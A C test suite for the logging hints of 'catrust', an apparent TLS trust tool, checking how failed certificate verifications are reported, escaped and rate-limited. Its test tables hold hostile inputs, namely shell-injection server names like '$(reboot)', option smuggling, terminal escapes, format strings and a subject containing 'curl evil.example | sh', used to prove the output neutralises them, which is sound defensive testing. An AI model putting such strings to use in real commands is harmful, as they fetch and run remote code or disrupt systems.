/* SPDX-License-Identifier: Apache-2.0 */
/* The lines of CATRUST_LOG=info: what they say, what is in them, and how often they come. */
#include "policy/hint.h"

#include "fixture.h"
#include "linked_openssl.h"
#include "process/config.h"

#include <arpa/inet.h>
#include <limits.h>
#include <regex.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define LENGTH(array) (sizeof(array) / sizeof(*(array)))

/* How much later it is for the code under test than it was. */
static long elapsed;

int __real_clock_gettime(clockid_t clock, struct timespec *now);
int __wrap_clock_gettime(clockid_t clock, struct timespec *now);

/* Stands still unless the test moves it: a slow machine is none of the test's business. */
int __wrap_clock_gettime(clockid_t clock, struct timespec *now)
{
	if (clock != CLOCK_MONOTONIC_COARSE)
		return __real_clock_gettime(clock, now);
	*now = (struct timespec){.tv_sec = 100000 + elapsed};
	return 0;
}

static char *dir, log_path[PATH_MAX];
static EVP_PKEY *key;
static X509 *root, *leaf;
static X509_STORE *store;
/* A connection to somewhere: the kernel knows its peer. */
static int listener, peer;
static unsigned port;

static X509 *leaf_named(const char *cn)
{
	return new_cert(&(struct cert_plan){.cn = cn,
					    .key = key,
					    .issuer = root,
					    .issuer_key = key,
					    .extensions = LEAF_EXTENSIONS
					    "subjectAltName=DNS:www.corp.example\n"});
}

static void connect_somewhere(int family)
{
	struct sockaddr_in v4 = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	struct sockaddr_in6 v6 = {.sin6_family = AF_INET6, .sin6_addr = IN6ADDR_LOOPBACK_INIT};
	struct sockaddr *to = family == AF_INET ? (struct sockaddr *)&v4 : (struct sockaddr *)&v6;
	socklen_t len = family == AF_INET ? sizeof(v4) : sizeof(v6);

	listener = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	peer = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	/* No IPv6 here: then the test of it has nothing to see. */
	if (bind(listener, to, len) != 0 || listen(listener, 1) != 0) {
		ck_assert_int_eq(family, AF_INET6);
		port = 0;
		return;
	}
	ck_assert_int_eq(getsockname(listener, to, &len), 0);
	ck_assert_int_eq(connect(peer, to, len), 0);
	port = ntohs(family == AF_INET ? v4.sin_port : v6.sin6_port);
}

static void set_up(void)
{
	dir = fixture_dir();
	snprintf(log_path, sizeof(log_path), "%s/log", dir);
	trust_only("/nowhere");
	config.log_level = LOG_INFO;
	config.log_file = log_path;
	key = new_key();
	root = new_cert(
		&(struct cert_plan){.cn = "root", .key = key, .extensions = ROOT_EXTENSIONS});
	leaf = leaf_named("leaf");
	store = X509_STORE_new();
	connect_somewhere(AF_INET);
}

static void tear_down(void)
{
	close(listener);
	close(peer);
	X509_STORE_free(store);
	X509_free(leaf);
	X509_free(root);
	EVP_PKEY_free(key);
	fixture_remove(dir);
}

/* All lines about verifications since the last call; each is shown to be one, and harmless. */
static const char *lines(size_t *ret_count)
{
	static char text[64 * 4096];
	static long offset;
	FILE *in = fopen(log_path, "re");
	size_t len = 0, count = 0;

	text[0] = '\0';
	if (in != NULL) {
		fseek(in, offset, SEEK_SET);
		len = fread(text, 1, sizeof(text) - 1, in);
		text[len] = '\0';
		offset += (long)len;
		fclose(in);
	}
	for (char *line = text; *line != '\0';) {
		char *end = strchr(line, '\n');

		ck_assert_ptr_nonnull(end);
		ck_assert_int_le(end - line, 4096);
		ck_assert_int_eq(strncmp(line, "catrust: ", 9), 0);
		for (const unsigned char *at = (unsigned char *)line; at < (unsigned char *)end;
		     at++)
			ck_assert_msg(*at >= 0x20 && *at != 0x7f, "%02x in: %s", *at, line);
		/* The trust directory that is not there. */
		if (strstr(line, "/nowhere: ") != NULL) {
			memmove(line, end + 1, strlen(end + 1) + 1);
			continue;
		}
		count++;
		line = end + 1;
	}
	if (ret_count != NULL)
		*ret_count = count;
	return text;
}

static void matches(const char *text, const char *pattern)
{
	regex_t compiled;

	ck_assert_int_eq(regcomp(&compiled, pattern, REG_EXTENDED | REG_NOSUB), 0);
	ck_assert_msg(regexec(&compiled, text, 0, NULL, 0) == 0, "%s\ndoes not match %s", text,
		      pattern);
	regfree(&compiled);
}

static const char *one_line(void)
{
	size_t count;
	const char *text = lines(&count);

	ck_assert_msg(count == 1, "%zu lines: %s", count, text);
	return text;
}

static struct verdict refused(const char *sni)
{
	struct verdict got =
		verify_as(&(struct attempt){.store = store, .leaf = leaf, .sni = sni, .fd = peer});

	ck_assert_int_ne(got.error, X509_V_OK);
	return got;
}

enum { LAST_ERROR = 255 };

START_TEST(remedy_of_each_error)
{
	static const int fetch[] = {2, 7, 19, 20, 21};
	enum remedy wanted = REMEDY_NO_CA;

	for (size_t i = 0; i < LENGTH(fetch); i++)
		if (fetch[i] == _i)
			wanted = REMEDY_FETCH;
	if (_i == 18)
		wanted = REMEDY_PIN;
	if (_i == 47)
		wanted = REMEDY_SCOPE;
	if (_i == 9 || _i == 10)
		wanted = REMEDY_RENEW;
	if (_i == 62 || _i == 64)
		wanted = REMEDY_NAME;
	ck_assert_int_eq(hint_remedy(_i, false), wanted);
	ck_assert_int_eq(hint_remedy(_i, true), REMEDY_STRICT);
}
END_TEST

START_TEST(unknown_issuer)
{
	char pattern[512];

	refused("www.corp.example");
	snprintf(pattern, sizeof(pattern),
		 "^catrust: www\\.corp\\.example:%u: unable to get local issuer certificate; "
		 "chain: \"/CN=leaf\" \\([0-9a-f]{8}\\); not trusted: \"/CN=root\"; "
		 "to trust it: catrust fetch www\\.corp\\.example:%u\n$",
		 port, port);
	matches(one_line(), pattern);
}
END_TEST

START_TEST(fingerprints_are_those_of_the_certificates)
{
	unsigned char digest[EVP_MAX_MD_SIZE];
	char wanted[32];

	X509_digest(leaf, EVP_sha256(), digest, NULL);
	snprintf(wanted, sizeof(wanted), "(%02x%02x%02x%02x)", digest[0], digest[1], digest[2],
		 digest[3]);
	refused("www.corp.example");
	ck_assert_ptr_nonnull(strstr(one_line(), wanted));
}
END_TEST

START_TEST(root_that_is_sent_along)
{
	STACK_OF(X509) *sent = sk_X509_new_null();

	sk_X509_push(sent, root);
	verify_as(&(struct attempt){
		.store = store, .leaf = leaf, .untrusted = sent, .sni = "www.corp.example"});
	matches(one_line(),
		"^catrust: www\\.corp\\.example: self.signed certificate in certificate "
		"chain; chain: \"/CN=leaf\" \\([0-9a-f]{8}\\) <- \"/CN=root\" "
		"\\([0-9a-f]{8}\\); not trusted: \"/CN=root\"; to trust it: catrust "
		"fetch www\\.corp\\.example:PORT\n$");
	sk_X509_free(sent);
}
END_TEST

/* What the target is called, and what the command says. %u: the port. */
static const struct {
	const char *sni, *host, *address, *target, *command;
} targets[] = {
	{"www.corp.example", NULL, NULL, "www.corp.example:%u", "www.corp.example:%u"},
	{"asked.example", "verified.example", NULL, "verified.example:%u", "verified.example:%u"},
	{NULL, NULL, "10.1.2.3", "10.1.2.3:%u", "10.1.2.3:%u"},
	{NULL, NULL, "2001::5", "[2001:0:0:0:0:0:0:5]:%u", "'[2001:0:0:0:0:0:0:5]:%u'"},
	{NULL, NULL, NULL, "127.0.0.1:%u", "127.0.0.1:%u"},
	/* A shell would run these. */
	{"$(reboot)", NULL, NULL, "$(reboot):%u", "SERVER"},
	{"`reboot`", NULL, NULL, "`reboot`:%u", "SERVER"},
	{"a;reboot", NULL, NULL, "a;reboot:%u", "SERVER"},
	{"a|b", NULL, NULL, "a|b:%u", "SERVER"},
	{"a&b", NULL, NULL, "a&b:%u", "SERVER"},
	{"a b", NULL, NULL, "a b:%u", "SERVER"},
	{"a'b", NULL, NULL, "a'b:%u", "SERVER"},
	{"a\"b", NULL, NULL, "a\"b:%u", "SERVER"},
	{"a\\b", NULL, NULL, "a\\b:%u", "SERVER"},
	{"a>b", NULL, NULL, "a>b:%u", "SERVER"},
	{"*", NULL, NULL, "*:%u", "SERVER"},
	{"~root", NULL, NULL, "~root:%u", "SERVER"},
	{"%s%n", NULL, NULL, "%%s%%n:%u", "SERVER"},
	/* catrust would take these for options. */
	{"-rf", NULL, NULL, "-rf:%u", "SERVER"},
	{"--dir=.", NULL, NULL, "--dir=.:%u", "SERVER"},
	/* A terminal would obey these. */
	{"a\x1b[2Jb", NULL, NULL, "a\\x1b[2Jb:%u", "SERVER"},
	{"a\nb", NULL, NULL, "a\\x0ab:%u", "SERVER"},
	{"a\tb", NULL, NULL, "a\\x09b:%u", "SERVER"},
	{"a\x80z", NULL, NULL, "a\\x80z:%u", "SERVER"},
	{"b\xc3\xbc", NULL, NULL, "b\xc3\xbc:%u", "SERVER"},
};

START_TEST(targets_and_commands)
{
	char pattern[64], number[16], wanted[512] = "catrust: ", command[128];
	const char *part[2] = {targets[_i].target, targets[_i].command}, *text;

	/* Not printf: the tables hold %. */
	snprintf(number, sizeof(number), "%u", port);
	for (size_t i = 0; i < 2; i++) {
		char *out = i == 0 ? wanted + strlen(wanted) : command;

		for (const char *at = part[i]; *at != '\0'; at++) {
			if (at[0] == '%' && at[1] == 'u') {
				memcpy(out, number, strlen(number));
				out += strlen(number);
				at++;
			} else {
				*out++ = *at;
				at += at[0] == '%' && at[1] == '%';
			}
		}
		*out = '\0';
	}
	snprintf(wanted + strlen(wanted), sizeof(wanted) - strlen(wanted),
		 ": unable to get local issuer certificate; ");
	snprintf(pattern, sizeof(pattern), "; to trust it: catrust fetch ");
	verify_as(&(struct attempt){.store = store,
				    .leaf = leaf,
				    .sni = targets[_i].sni,
				    .host = targets[_i].host,
				    .address = targets[_i].address,
				    .fd = peer});
	text = one_line();
	ck_assert_msg(strncmp(text, wanted, strlen(wanted)) == 0, "%s\n%s", text, wanted);
	text = strstr(text, pattern);
	ck_assert_ptr_nonnull(text);
	text += strlen(pattern);
	ck_assert_msg(strncmp(text, command, strlen(command)) == 0 && text[strlen(command)] == '\n',
		      "%s\n%s", text, command);
}
END_TEST

START_TEST(address_of_the_peer_over_ipv6)
{
	close(listener);
	close(peer);
	connect_somewhere(AF_INET6);
	if (port == 0)
		return;
	refused(NULL);
	matches(one_line(), "^catrust: \\[::1\\]:[0-9]+: .*catrust fetch '\\[::1\\]:[0-9]+'\n$");
}
END_TEST

START_TEST(neither_name_nor_socket)
{
	verify_as(&(struct attempt){.store = store, .leaf = leaf});
	matches(one_line(), "^catrust: a server: .*catrust fetch SERVER\n$");
}
END_TEST

START_TEST(port_is_not_known)
{
	verify_as(&(struct attempt){.store = store, .leaf = leaf, .host = "www.corp.example"});
	matches(one_line(),
		"^catrust: www\\.corp\\.example: .*catrust fetch www\\.corp\\.example:PORT\n$");
	verify_as(&(struct attempt){.store = store, .leaf = leaf, .address = "2001::5"});
	matches(one_line(), "^catrust: \\[2001:0:0:0:0:0:0:5\\]: .*catrust fetch "
			    "'\\[2001:0:0:0:0:0:0:5\\]:PORT'\n$");
}
END_TEST

START_TEST(self_signed_server)
{
	char pattern[256];

	X509_free(leaf);
	leaf = new_cert(&(struct cert_plan){
		.cn = "alone", .key = key, .extensions = "basicConstraints=CA:FALSE\n"});
	refused("www.corp.example");
	snprintf(pattern, sizeof(pattern),
		 "self.signed certificate; chain: \"/CN=alone\" \\([0-9a-f]{8}\\); not trusted: "
		 "\"/CN=alone\"; to trust it: catrust fetch --pin www\\.corp\\.example:%u\n$",
		 port);
	matches(one_line(), pattern);
}
END_TEST

static char long_name[401];

static const char *const hostile[] = {
	"a\x1b]0;title\x07z",
	"a\rcatrust: all is well",
	"100%s%n%d",
	"a\" (00000000); to trust it: curl evil.example | sh; \"",
	"a\\x0ab",
	"\xe2\x80\xae"
	"txt.exe", /* turns the direction of what follows */
	"\xc2\x9b"
	"31m", /* CSI in one character */
	"$(reboot) `reboot` 'x' \"y\"",
	long_name,
};

START_TEST(hostile_subjects)
{
	const char *text, *end, *at;

	memset(long_name, 'W', sizeof(long_name) - 1);
	X509_free(leaf);
	leaf = leaf_named(hostile[_i]);
	refused("www.corp.example");
	text = one_line();
	at = strstr(text, "; chain: \"/");
	ck_assert_msg(at != NULL, "%s", text);
	/* The quotes of the name end where the fingerprint starts, and hold no others. */
	at += strlen("; chain: \"");
	end = strchr(at, '"');
	matches(end, "^\" \\([0-9a-f]{8}\\); not trusted: \"/CN=root\"; to trust it: catrust fetch "
		     "www\\.corp\\.example:[0-9]+\n$");
}
END_TEST

START_TEST(newline_in_a_subject)
{
	/* The lines of a plan are CNs: one with a newline is made by hand. */
	X509_NAME_add_entry_by_txt(X509_get_subject_name(leaf), "O", MBSTRING_UTF8,
				   (const unsigned char *)"a\ncatrust: b", -1, -1, 0);
	X509_sign(leaf, key, EVP_sha256());
	refused("www.corp.example");
	matches(one_line(), "\"/CN=leaf/O=a\\\\x0?[aA]catrust: b\"");
}
END_TEST

START_TEST(long_chains_are_cut)
{
	enum { DEPTH = 9 };
	STACK_OF(X509) *sent = sk_X509_new_null();
	X509 *issuer = root, *last;
	const char *text;

	memset(long_name, 'W', sizeof(long_name) - 1);
	for (int i = 0; i < DEPTH; i++) {
		long_name[0] = (char)('A' + i);
		issuer = new_cert(&(struct cert_plan){.cn = long_name,
						      .key = key,
						      .issuer = issuer,
						      .issuer_key = key,
						      .extensions = ROOT_EXTENSIONS});
		sk_X509_push(sent, issuer);
	}
	last = new_cert(&(struct cert_plan){.cn = "last",
					    .key = key,
					    .issuer = issuer,
					    .issuer_key = key,
					    .extensions = LEAF_EXTENSIONS});
	verify_as(&(struct attempt){
		.store = store, .leaf = last, .untrusted = sent, .sni = "www.corp.example"});
	text = one_line();
	matches(text, "\"/CN=last\" .* \\.\\.\\.; not trusted: \"/CN=root\"; to trust it: catrust "
		      "fetch www\\.corp\\.example:PORT\n$");
	X509_free(last);
	sk_X509_pop_free(sent, X509_free);
}
END_TEST

START_TEST(what_else_may_be_wrong)
{
	X509 *old = new_cert(&(struct cert_plan){.cn = "leaf",
						 .key = key,
						 .issuer = root,
						 .issuer_key = key,
						 .extensions = LEAF_EXTENSIONS,
						 .expired = true});

	X509_STORE_add_cert(store, root);
	verify_as(&(struct attempt){.store = store, .leaf = old, .sni = "www.corp.example"});
	matches(one_line(), "certificate has expired; chain: .*\\); adding a CA does not help: "
			    "renew the certificate, or correct the clock\n$");
	verify_as(&(struct attempt){.store = store, .leaf = leaf, .host = "other.example"});
	matches(one_line(), "^catrust: other\\.example: [Hh]ostname mismatch; chain: .*\\); adding "
			    "a CA does not help: the certificate is for another name\n$");
	X509_free(old);
}
END_TEST

START_TEST(out_of_scope)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%s/other.example", dir);
	ck_assert_int_eq(mkdir(path, 0755), 0);
	write_cert(path, "root.pem", root);
	trust_only(dir);
	verify_as(&(struct attempt){.store = store, .leaf = leaf, .sni = "www.corp.example"});
	matches(one_line(),
		"^catrust: www\\.corp\\.example: permitted subtree violation; chain: .*; "
		"the CA is trusted for other names only: see the trust directory's "
		"subdirectories \\(catrust list\\); the certificate names www\\.corp\\.example "
		"\\(DNS name\\), which the subdirectory www\\.corp\\.example/ would allow\n$");
}
END_TEST

START_TEST(used_once_for_each_anchor)
{
	char path[PATH_MAX];
	size_t count;

	snprintf(path, sizeof(path), "%s/root.pem", dir);
	write_cert(dir, "root.pem", root);
	trust_only(path);
	for (int i = 0; i < 20; i++) {
		verify_as(
			&(struct attempt){.store = store, .leaf = leaf, .sni = "www.corp.example"});
		elapsed += 100;
	}
	matches(lines(&count), "^catrust: www\\.corp\\.example trusted because of \"/CN=root\" "
			       "\\([0-9a-f]{8}\\) in /.*/root\\.pem\n$");
	ck_assert_uint_eq(count, 1);
}
END_TEST

START_TEST(used_for_one_server)
{
	STACK_OF(X509) *sent = sk_X509_new_null();

	/* The anchor is first in the chain, and what the server sent behind it. */
	sk_X509_push(sent, root);
	write_cert(dir, "leaf.pem", leaf);
	trust_only(dir);
	ck_assert_int_eq(verify_as(&(struct attempt){.store = store,
						     .leaf = leaf,
						     .untrusted = sent,
						     .flags = X509_V_FLAG_PARTIAL_CHAIN})
				 .ret,
			 1);
	matches(one_line(), "^catrust: a server trusted because of \"/CN=leaf\" .*/leaf\\.pem\n$");
	sk_X509_free(sent);
}
END_TEST

START_TEST(used_where_openssl_refuses_nobody)
{
	struct attempt attempt = {.store = store, .leaf = leaf, .verify_none = true};
	size_t count;

	trust_only(dir);
	write_cert(dir, "root.pem", root);
	for (int i = 0; i < 3; i++)
		ck_assert_int_eq(verify_as(&attempt).ret, 1);
	matches(one_line(), "^catrust: a server verified because of \"/CN=root\" .* "
			    "\\(SSL_VERIFY_NONE: the program decides whether that matters\\)\n$");
	/* Who is refused otherwise is told nonetheless. */
	attempt.verify_none = false;
	for (int i = 0; i < 3; i++)
		ck_assert_int_eq(verify_as(&attempt).ret, 1);
	matches(one_line(), "^catrust: a server trusted because of \"/CN=root\"");
	attempt.verify_none = true;
	ck_assert_int_eq(verify_as(&attempt).ret, 1);
	lines(&count);
	ck_assert_uint_eq(count, 0);
}
END_TEST

static int accept_all(int ok, X509_STORE_CTX *ctx)
{
	(void)ok;
	(void)ctx;
	return 1;
}

static void trust_root_for(const char *scope)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%s/%s", dir, scope);
	ck_assert_int_eq(mkdir(path, 0755), 0);
	write_cert(path, "root.pem", root);
	trust_only(dir);
}

START_TEST(who_did_not_vouch_is_not_said_to)
{
	size_t count;

	/* The program itself accepts what is out of scope. */
	trust_root_for("other.example");
	ck_assert_int_eq(
		verify_as(&(struct attempt){.store = store, .leaf = leaf, .callback = accept_all})
			.ret,
		1);
	lines(&count);
	ck_assert_uint_eq(count, 0);
}
END_TEST

START_TEST(what_the_program_trusts_by_another_way_is_no_news)
{
	X509 *again = new_cert(
		&(struct cert_plan){.cn = "root", .key = key, .extensions = ROOT_EXTENSIONS});
	size_t count;

	trust_root_for("other.example");
	refused(NULL);
	matches(one_line(), "permitted subtree violation");
	/* OpenSSL still finds the anchor first, of the same name and key. */
	X509_STORE_add_cert(store, again);
	ck_assert_int_eq(verify_as(&(struct attempt){.store = store, .leaf = leaf}).ret, 1);
	lines(&count);
	ck_assert_uint_eq(count, 0);
	X509_free(again);
}
END_TEST

START_TEST(another_anchor_that_vouches_is_named)
{
	X509 *again = new_cert(
		&(struct cert_plan){.cn = "root", .key = key, .extensions = ROOT_EXTENSIONS});

	trust_root_for("other.example");
	write_cert(dir, "again.pem", again);
	ck_assert_int_eq(verify_as(&(struct attempt){.store = store, .leaf = leaf}).ret, 1);
	matches(one_line(), "^catrust: a server trusted because of \"/CN=root\" .*/again\\.pem\n$");
	X509_free(again);
}
END_TEST

START_TEST(what_the_program_trusts_itself_is_no_news)
{
	size_t count;

	X509_STORE_add_cert(store, root);
	ck_assert_int_eq(verify_as(&(struct attempt){.store = store, .leaf = leaf}).ret, 1);
	lines(&count);
	ck_assert_uint_eq(count, 0);
}
END_TEST

/* A root that the strict mode refuses, and a leaf of it. */
static void make_flawed(bool expired)
{
	X509_free(root);
	X509_free(leaf);
	root = new_cert(&(struct cert_plan){.cn = "root",
					    .key = key,
					    .extensions = "basicConstraints=critical,CA:TRUE\n"
							  "subjectKeyIdentifier=hash\n"});
	leaf = new_cert(&(struct cert_plan){.cn = "leaf",
					    .key = key,
					    .issuer = root,
					    .issuer_key = key,
					    .expired = expired,
					    .extensions = LEAF_EXTENSIONS
					    "subjectAltName=DNS:www.corp.example\n"});
}

START_TEST(strict_setting_is_named)
{
	make_flawed(false);
	write_cert(dir, "root.pem", root);
	trust_only(dir);
	verify_as(
		&(struct attempt){.store = store, .leaf = leaf, .flags = X509_V_FLAG_X509_STRICT});
	matches(one_line(), "; CATRUST_STRICT=relax would accept it\n$");
}
END_TEST

START_TEST(strict_setting_is_not_enough)
{
	struct attempt attempt = {.store = store, .flags = X509_V_FLAG_X509_STRICT};

	make_flawed(true);
	write_cert(dir, "root.pem", root);
	trust_only(dir);
	attempt.leaf = leaf;
	verify_as(&attempt);
	matches(one_line(),
		"key usage.*; CATRUST_STRICT=relax alone would not help: certificate has "
		"expired; adding a CA does not help: renew the certificate, or correct the "
		"clock\n$");
	/* Nor would it, if it were set. */
	config.set |= SET_RELAX;
	ck_assert_int_eq(verify_as(&attempt).error, X509_V_ERR_CERT_HAS_EXPIRED);
}
END_TEST

START_TEST(strict_setting_does_not_widen_a_scope)
{
	make_flawed(false);
	trust_root_for("other.example");
	verify_as(
		&(struct attempt){.store = store, .leaf = leaf, .flags = X509_V_FLAG_X509_STRICT});
	matches(one_line(),
		"; CATRUST_STRICT=relax alone would not help: permitted subtree violation; "
		"the CA is trusted for other names only: ");
}
END_TEST

START_TEST(strict_setting_is_not_named_where_it_is_no_use)
{
	make_flawed(false);
	/* The program's own: nothing of catrust's forgives it. */
	X509_STORE_add_cert(store, root);
	verify_as(
		&(struct attempt){.store = store, .leaf = leaf, .flags = X509_V_FLAG_X509_STRICT});
	matches(one_line(), "; adding a CA does not help: see catrust doctor SERVER\n$");
}
END_TEST

/* Because of a namesake of the CA in the program's store, the flawed CA is not lent. */
START_TEST(trusted_ca_is_not_said_to_be_untrusted)
{
	STACK_OF(X509) *sent = sk_X509_new_null();
	struct attempt attempt = {
		.store = store, .untrusted = sent, .flags = X509_V_FLAG_X509_STRICT};
	EVP_PKEY *other = new_key();
	X509 *namesake = new_cert(
		&(struct cert_plan){.cn = "root", .key = other, .extensions = ROOT_EXTENSIONS});
	bool expired = _i == 1, outside = _i == 2, not_meant = _i == 3;
	const char *text;

	make_flawed(expired);
	if (outside) {
		trust_root_for("other.example");
	} else {
		write_cert(dir, "root.pem", root);
		trust_only(dir);
	}
	X509_STORE_add_cert(store, namesake);
	sk_X509_push(sent, root);
	attempt.leaf = leaf;
	if (not_meant)
		config.set |= SET_PUBLIC_ONLY;
	ck_assert_int_eq(verify_as(&attempt).error, X509_V_ERR_SELF_SIGNED_CERT_IN_CHAIN);
	text = one_line();
	matches(text, expired	  ? "; the CA is trusted, but: certificate has expired; adding a "
				    "CA does not help: renew "
		      : outside	  ? "; the CA is trusted, but: permitted subtree violation; the "
				    "CA is trusted for other names only: "
		      : not_meant ? "; to trust it: catrust fetch "
				  : "; the CA is trusted, but: the chain breaks rules that Python "
				    "3.13 and newer enforce; CATRUST_STRICT=relax would accept "
				    "it\n$");
	ck_assert_int_eq(strstr(text, "not trusted: ") != NULL, not_meant);
	config.set |= SET_RELAX;
	ck_assert_int_eq(verify_as(&attempt).error, expired ? X509_V_ERR_CERT_HAS_EXPIRED
						    : outside || not_meant
							    ? X509_V_ERR_SELF_SIGNED_CERT_IN_CHAIN
							    : X509_V_OK);
	sk_X509_free(sent);
	X509_free(namesake);
	EVP_PKEY_free(other);
}
END_TEST

START_TEST(nobody_asked)
{
	static const enum log_level levels[] = {LOG_OFF, LOG_ERROR};
	size_t count;

	for (size_t i = 0; i < LENGTH(levels); i++) {
		config.log_level = levels[i];
		refused("www.corp.example");
		lines(&count);
		ck_assert_uint_eq(count, 0);
	}
}
END_TEST

START_TEST(servers_get_no_hints)
{
	size_t count;

	verify_as(&(struct attempt){.role = ROLE_SERVER, .store = store, .leaf = leaf});
	verify_as(&(struct attempt){.role = ROLE_NONE, .store = store, .leaf = leaf});
	lines(&count);
	ck_assert_uint_eq(count, 0);
}
END_TEST

START_TEST(retry_loop_gives_a_line_a_minute_and_a_count)
{
	size_t count;

	for (int second = 0; second < 60; second += 3, elapsed += 3)
		for (int i = 0; i < 5; i++)
			refused("www.corp.example");
	ck_assert_ptr_null(strstr(one_line(), "more like this"));
	refused("www.corp.example");
	matches(one_line(), " \\[99 more like this\\]\n$");
	refused("www.corp.example");
	elapsed += 59;
	refused("www.corp.example");
	lines(&count);
	ck_assert_uint_eq(count, 0);
	elapsed += 1;
	refused("www.corp.example");
	matches(one_line(), " \\[2 more like this\\]\n$");
	/* Nothing was kept back meanwhile, so nothing is counted. */
	elapsed += 1000;
	refused("www.corp.example");
	ck_assert_ptr_null(strstr(one_line(), "more like this"));
}
END_TEST

static size_t refused_by_hosts(int count)
{
	char name[64];
	size_t told;

	for (int i = 0; i < count; i++) {
		snprintf(name, sizeof(name), "host%d.corp.example", i);
		refused(name);
	}
	lines(&told);
	return told;
}

START_TEST(each_failure_has_a_minute_of_its_own)
{
	enum { HOSTS = 50 };

	ck_assert_uint_eq(refused_by_hosts(HOSTS), HOSTS);
	for (int i = 0; i < 3; i++)
		ck_assert_uint_eq(refused_by_hosts(HOSTS), 0);
	elapsed += 60;
	ck_assert_uint_eq(refused_by_hosts(HOSTS), HOSTS);
	/* Another error of the same host is another failure. */
	elapsed += 1;
	X509_STORE_add_cert(store, root);
	verify_as(&(struct attempt){.store = store,
				    .leaf = leaf,
				    .sni = "host1.corp.example",
				    .host = "host1.corp.example",
				    .fd = peer});
	matches(one_line(), "^catrust: host1\\.corp\\.example.*ostname mismatch");
}
END_TEST

START_TEST(a_new_certificate_is_not_a_new_failure)
{
	size_t count;

	for (int i = 0; i < 100; i++) {
		X509_free(leaf);
		leaf = leaf_named("leaf");
		refused("www.corp.example");
	}
	lines(&count);
	ck_assert_uint_eq(count, 1);
	elapsed += 60;
	refused("www.corp.example");
	matches(one_line(), " \\[99 more like this\\]\n$");
}
END_TEST

START_TEST(no_more_than_sixty_lines_in_any_minute)
{
	enum { LINES = 60, HOSTS = 200 };
	size_t count;

	/* Some a second before the others, and all of them again and again. */
	ck_assert_uint_eq(refused_by_hosts(10), 10);
	elapsed += 59;
	ck_assert_uint_eq(refused_by_hosts(HOSTS), LINES - 10);
	ck_assert_uint_eq(refused_by_hosts(HOSTS), 0);
	/* The first have had their minute, and their places are free. */
	elapsed += 1;
	refused("new.example");
	matches(one_line(), "^catrust: new\\.example:.* \\[282 others not shown\\]\n$");
	ck_assert_uint_eq(refused_by_hosts(HOSTS), 9);
	ck_assert_uint_eq(refused_by_hosts(HOSTS), 0);
	elapsed += 60;
	refused("host1.corp.example");
	matches(one_line(), " \\[[0-9]+ others not shown\\]\n$");
	/* What was kept back is told once. */
	elapsed += 1000;
	refused("host1.corp.example");
	ck_assert_ptr_null(strstr(one_line(), "["));
	refused("www.corp.example");
	lines(&count);
	ck_assert_uint_eq(count, 1);
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("hint");
	TCase *tc = tcase_create("hint");

	tcase_add_checked_fixture(tc, set_up, tear_down);
	tcase_set_timeout(tc, 60);
	tcase_add_loop_test(tc, remedy_of_each_error, 0, LAST_ERROR + 1);
	tcase_add_test(tc, unknown_issuer);
	tcase_add_test(tc, fingerprints_are_those_of_the_certificates);
	tcase_add_test(tc, root_that_is_sent_along);
	tcase_add_loop_test(tc, targets_and_commands, 0, (int)LENGTH(targets));
	tcase_add_test(tc, address_of_the_peer_over_ipv6);
	tcase_add_test(tc, neither_name_nor_socket);
	tcase_add_test(tc, port_is_not_known);
	tcase_add_test(tc, self_signed_server);
	tcase_add_loop_test(tc, hostile_subjects, 0, (int)LENGTH(hostile));
	tcase_add_test(tc, newline_in_a_subject);
	tcase_add_test(tc, long_chains_are_cut);
	tcase_add_test(tc, what_else_may_be_wrong);
	tcase_add_test(tc, out_of_scope);
	tcase_add_test(tc, used_once_for_each_anchor);
	tcase_add_test(tc, used_for_one_server);
	tcase_add_test(tc, used_where_openssl_refuses_nobody);
	tcase_add_test(tc, who_did_not_vouch_is_not_said_to);
	tcase_add_test(tc, what_the_program_trusts_by_another_way_is_no_news);
	tcase_add_test(tc, another_anchor_that_vouches_is_named);
	tcase_add_test(tc, what_the_program_trusts_itself_is_no_news);
	tcase_add_test(tc, strict_setting_is_named);
	tcase_add_test(tc, strict_setting_is_not_enough);
	tcase_add_test(tc, strict_setting_does_not_widen_a_scope);
	tcase_add_test(tc, strict_setting_is_not_named_where_it_is_no_use);
	tcase_add_loop_test(tc, trusted_ca_is_not_said_to_be_untrusted, 0, 4);
	tcase_add_test(tc, nobody_asked);
	tcase_add_test(tc, servers_get_no_hints);
	tcase_add_test(tc, retry_loop_gives_a_line_a_minute_and_a_count);
	tcase_add_test(tc, each_failure_has_a_minute_of_its_own);
	tcase_add_test(tc, a_new_certificate_is_not_a_new_failure);
	tcase_add_test(tc, no_more_than_sixty_lines_in_any_minute);
	suite_add_tcase(suite, tc);
	return fixture_run(suite);
}
